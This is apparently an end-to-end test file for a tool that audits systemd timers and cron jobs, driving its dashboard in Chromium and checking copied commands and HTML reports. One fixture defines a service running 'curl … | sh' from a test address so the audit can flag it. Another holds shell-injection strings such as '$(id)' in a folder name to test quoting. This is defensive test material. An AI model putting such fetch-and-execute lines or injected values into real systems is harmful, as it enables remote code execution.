/**
 * The built program from end to end: `serve` of two roots in Chromium while files change, every copied command run, and
 * `-o html` opened from disk. Numbers are compared with what the same program prints as JSON.
 */
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { writeTree } from "../../src/hosts/real-tree.test-support.ts";
import type { AuditReport } from "../../src/report/envelope.ts";
import { visible } from "../../src/report/visible.ts";
import { CLI, cli } from "../cli.ts";
import { CHROMIUM, launch } from "./browser.ts";

declare const document: {
  querySelector(selector: string): { readonly textContent: string | null } | null;
};

const NOW = "2026-11-23T06:00:00Z";
const SYNC = "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n";

function timer(name: string, schedule: string, service: string): Record<string, string | { link: string }> {
  return {
    [`/etc/systemd/system/${name}.timer`]: `[Timer]\nOnCalendar=${schedule}\n[Install]\nWantedBy=timers.target\n`,
    [`/etc/systemd/system/${name}.service`]: service,
    [`/etc/systemd/system/timers.target.wants/${name}.timer`]: { link: `../${name}.timer` },
  };
}

const COMMON = {
  "/etc/passwd": "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\n",
  "/etc/os-release": "ID=debian\nVERSION_ID=12\n",
  "/usr/lib/systemd/system/timers.target": "[Unit]\n",
  "/usr/lib/systemd/system/multi-user.target": "[Unit]\nWants=timers.target\n",
  "/usr/lib/systemd/system/default.target": { link: "multi-user.target" },
};

/** Unit names that an option parser or a shell would take for something else. */
const ODD_NAMES = ["-x", "--help", "a\\x2db", ":"];
/** The same for the folder of a host, where every character is allowed. */
const ODD_FOLDER = " it's $(id) `id` \u202e\x1b\\";

const missing =
  CHROMIUM === null
    ? " (SKIPPED: no Chromium on this machine)"
    : existsSync(CLI)
      ? ""
      : " (SKIPPED: the program is not built)";

describe.skipIf(missing !== "")(`the built program and Chromium${missing}`, () => {
  let web = "";
  let db = "";
  let folder = "";
  let browser: Browser;
  let page: Page;
  let server: ChildProcess;
  const faults: string[] = [];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "timerwarden-served-"));
    web = writeTree({
      ...COMMON,
      "/etc/hostname": "web-03\n",
      ...timer("backup", "*:0/17", "[Service]\nExecStart=/usr/local/bin/backup --all\n"),
      ...timer("sync", "minutely", SYNC),
      "/etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
      "/home/alice/.config/systemd/user/sync.timer": "[Timer]\nOnCalendar=hourly\n",
      "/home/alice/.config/systemd/user/sync.service": "[Service]\nExecStart=/usr/bin/true\n",
      ...Object.assign({}, ...ODD_NAMES.map((name) => timer(name, "daily", "[Service]\nExecStart=/bin/x\n"))),
    });
    renameSync(web, `${web}${ODD_FOLDER}`);
    web += ODD_FOLDER;
    db = writeTree({
      ...COMMON,
      "/etc/hostname": "db-02\n",
      ...timer("dump", "Mon *-*-* 02:30", "[Service]\nExecStart=/usr/bin/pg_dumpall\n"),
    });
    server = spawn(process.execPath, [CLI, "serve", "--now", NOW, `root:${web}`, `root:${db}`], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    const url = await firstLine(server);
    browser = await launch();
    page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    page.on("pageerror", (error) => faults.push(error.message));
    page.on("console", (message) => {
      if (message.type() === "error" || message.type() === "warning") faults.push(message.text());
    });
    await page.goto(url);
    await page.waitForSelector(".tiles");
  });

  afterAll(async () => {
    await browser.close();
    const ended = new Promise((resolve) => server.once("exit", resolve));
    server.kill("SIGTERM");
    await ended;
    for (const made of [web, db, folder]) rmSync(made, { recursive: true, force: true });
  });

  const open = async (route: string, waitFor: string): Promise<void> => {
    await page.goto(`${new URL(page.url()).origin}/#/${route}`);
    await page.waitForSelector(waitFor);
  };
  const audited = (root: string): AuditReport =>
    JSON.parse(cli(["audit", "-o", "json", "--now", NOW, `root:${root}`]).out) as AuditReport;

  test("both hosts stand in one table with the numbers of their reports, and lead to themselves", async () => {
    await open("overview", "table.hosts");
    const shown = await page.$$eval("table.hosts tbody tr", (rows) =>
      rows.map((row) => [...row.children].slice(0, 8).map((cell) => (cell.textContent ?? "").trim())),
    );
    const expected = [
      ["web-03", web],
      ["db-02", db],
    ].map(([host = "", root = ""]) => {
      const { summary, coverage } = audited(root);
      const { alert, suspect, review, unknown, ok } = summary.verdicts;
      return [
        host,
        visible(`root:${root}`),
        ...[alert, suspect, review, unknown, ok, coverage.gaps.length].map(String),
      ];
    });
    expect(shown).toEqual(expected);
    await page.click('table.hosts a:has-text("db-02")');
    await page.waitForFunction(
      () =>
        document.querySelector(".bottom")?.textContent?.includes("root:") &&
        document.querySelector("tr.selected th")?.textContent === "db-02",
    );
    await page.waitForSelector('[data-count="ok"]:text("1")');
    expect(await page.textContent('[data-count="ok"]')).toBe(String(audited(db).summary.verdicts.ok));
  });

  test("controls of both hosts are those that assess prints", async () => {
    await open("controls?t=0", ".matrix tbody tr:nth-child(2)");
    const shown = await page.$$eval(".matrix tbody tr", (rows) =>
      rows.map((row) => [...row.querySelectorAll("td")].map((cell) => cell.getAttribute("data-state"))),
    );
    const expected = [web, db].map((root) => {
      const { out } = cli(["assess", "-o", "json", "--now", NOW, `root:${root}`]);
      const { controls } = JSON.parse(out) as { controls: { result: string }[] };
      return controls.map(({ result }) => result);
    });
    expect(shown).toEqual(expected);
  });

  test("a unit file that changes changes the open page, and a new timer appears", async () => {
    await open("timers?t=1", "tr[data-row]");
    writeFileSync(join(db, "etc/systemd/system/dump.service"), "[Service]\nExecStart=/usr/bin/other\n");
    await page.waitForFunction(() =>
      document.querySelector("tr[data-row]")?.textContent?.includes("/usr/bin/other"),
    );
    expect(await page.textContent(".announcer")).toContain("changed");
    writeFileSync(join(db, "etc/systemd/system/new.timer"), "[Timer]\nOnCalendar=daily\n");
    await page.waitForSelector('tr[data-row="system/new.timer"]');
  });

  test("a page that lost its server finds it again, with what happened meanwhile", async () => {
    await open("timers?t=1", "tr[data-row]");
    await page.waitForFunction(() => document.querySelector(".live")?.textContent === "live");
    server.kill("SIGSTOP");
    await page.context().setOffline(true);
    rmSync(join(db, "etc/systemd/system/new.timer"));
    server.kill("SIGCONT");
    await page.context().setOffline(false);
    await page.waitForSelector('tr[data-row="system/new.timer"]', { state: "detached" });
    await page.waitForFunction(() => document.querySelector(".live")?.textContent === "live");
  });

  test.each([
    ["overview?t=0", ".tiles"],
    ["timers?t=0", "tr[data-row]"],
    ["week?t=0", "table.week"],
    ["timeline?t=0", ".past"],
    ["explain?t=0&id=system/backup.timer", "article.explain"],
    ["explain?t=0&id=user:alice/sync.timer", "article.explain"],
    ["controls?t=0&control=AC-6", ".matrix"],
    ["mappings?t=0&fw=nist", ".mapping-matrix"],
    ["calendar?t=0&expr=*/15 9-17 * * 1-5&with=hourly&lz=Europe/Berlin", ".answer"],
    ["calendar?t=0&expr=Mon 02:30&base=2027-03-26 12:00", ".answer"],
    ["about?t=0", ".numbers"],
  ])("the command copied from %s works", async (route, waitFor) => {
    await open(route, waitFor);
    const { status, out, err } = run(await copied());
    expect([0, 10, 12], err).toContain(status);
    expect(out.length).toBeGreaterThan(20);
    if (route.startsWith("week")) {
      const { timers, jobs } = JSON.parse(out) as AuditReport;
      const { timers: own, jobs: ownJobs } = audited(web);
      expect([...timers, ...jobs].map(({ id }) => id)).toEqual([...own, ...ownJobs].map(({ id }) => id));
    }
  });

  test.each(["exec:/bin/x", "-verdict:alert exec:/bin/x", "exec:/bin/x -verdit:alert"])(
    "the filter %s goes along in the copied command",
    async (filter) => {
      await open(`week?t=0&f=${encodeURIComponent(filter)}`, "table.week");
      const { status, out, err } = run(await copied());
      expect([0, 10], err).toContain(status);
      const { timers } = JSON.parse(out) as AuditReport;
      const admitted = timers.map(({ unit }) => unit);
      const isMistake = filter.includes("verdit");
      expect(new Set(admitted)).toEqual(
        new Set(
          isMistake ? audited(web).timers.map(({ unit }) => unit) : ODD_NAMES.map((name) => `${name}.timer`),
        ),
      );
    },
  );

  test("commands copied for units with odd names explain these very units", async () => {
    const units = audited(web).timers.filter(({ unit }) => !/^(backup|sync)\./.test(unit));
    expect(units.length).toBe(ODD_NAMES.length);
    for (const { id, unit } of units) {
      await open(`explain?t=0&id=${encodeURIComponent(id)}`, "article.explain");
      const command = (await copied()).replace("explain", "explain -o json");
      const { out, err } = run(command);
      expect(err).toBe("");
      expect((JSON.parse(out) as AuditReport).timers.map((row) => row.unit)).toEqual([unit]);
    }
  });

  test("nothing failed and no policy was broken", () => {
    expect(faults.filter((fault) => !fault.includes("ERR_INTERNET_DISCONNECTED"))).toEqual([]);
  });

  describe("-o html", () => {
    let file = "";
    let json = "";

    beforeAll(() => {
      file = join(folder, "report.html");
      json = join(folder, "report.json");
      const { status, err } = cli([
        "audit",
        "-o",
        `html=${file}`,
        "-o",
        `json=${json}`,
        "--now",
        NOW,
        `root:${web}`,
      ]);
      expect([status, err]).toEqual([10, ""]);
    });

    test("the same evidence and moment give the same bytes; convert gives the report back", () => {
      const again = join(folder, "again.html");
      cli(["audit", "-o", `html=${again}`, "--now", NOW, `root:${web}`]);
      expect(readFileSync(again).equals(readFileSync(file))).toBe(true);
      expect(cli(["convert", file, "-o", "json"]).out).toBe(readFileSync(json, "utf8"));
      expect(statSync(file).size).toBeLessThan(500_000);
    });

    test("opens from disk as the dashboard and asks nobody; numbers and digest are the report's", async () => {
      const context = await browser.newContext({ offline: true });
      const own = await context.newPage();
      const seen: string[] = [];
      own.on("pageerror", (error) => seen.push(error.message));
      own.on("console", (message) => seen.push(message.text()));
      own.on("request", (request) => seen.push(request.url()));
      await own.goto(pathToFileURL(file).href);
      await own.waitForSelector(".tiles");
      const report = JSON.parse(readFileSync(json, "utf8")) as AuditReport;
      for (const [verdict, number] of Object.entries(report.summary.verdicts))
        expect(await own.textContent(`[data-count="${verdict}"]`)).toBe(String(number));
      await own.click('nav.pages a:has-text("About")');
      await own.waitForSelector(".numbers");
      const digest = createHash("sha256").update(readFileSync(json)).digest("hex");
      expect(await own.textContent("#app main")).toContain(digest);
      expect(await own.textContent('[data-count="unit files"]')).toBe(String(report.coverage.unitFiles));
      expect(seen.filter((text) => !text.startsWith("data:"))).toEqual([pathToFileURL(file).href]);
      await context.close();
    });

    test("with scripts blocked it tells findings, timers and controls", async () => {
      const context = await browser.newContext({ javaScriptEnabled: false });
      const own = await context.newPage();
      await own.goto(pathToFileURL(file).href);
      const text = (await own.textContent("main")) ?? "";
      for (const part of ["is run by sh", "backup.timer", "AC-6 Least Privilege", "SHA-256"])
        expect(`${await own.textContent("header")}${text}`).toContain(part);
      expect(await own.isVisible("main")).toBe(true);
      await context.close();
    });
  });

  async function copied(): Promise<string> {
    await page.click('button:has-text("Copy as command")');
    return (await page.textContent("output.command code")) ?? "";
  }
});

/** As a person pastes it into bash, where `timerwarden` is the program that was built. */
function run(command: string): { status: number | null; out: string; err: string } {
  const script = `timerwarden() { "${process.execPath}" "${CLI}" "$@"; }\n${command}\n`;
  const { status, stdout, stderr } = spawnSync("bash", ["--norc", "-c", script], {
    encoding: "utf8",
    env: { PATH: "/usr/bin:/bin", TZ: "UTC", LC_ALL: "C.UTF-8" },
    timeout: 60_000,
  });
  return { status, out: stdout, err: stderr };
}

function firstLine({ stdout }: ChildProcess): Promise<string> {
  return new Promise((resolve, reject) => {
    let text = "";
    stdout?.on("data", (part) => {
      text += String(part);
      if (text.includes("\n")) resolve(text.split("\n")[0] ?? "");
    });
    stdout?.once("end", () => reject(new Error(`it ended: ${text}`)));
  });
}
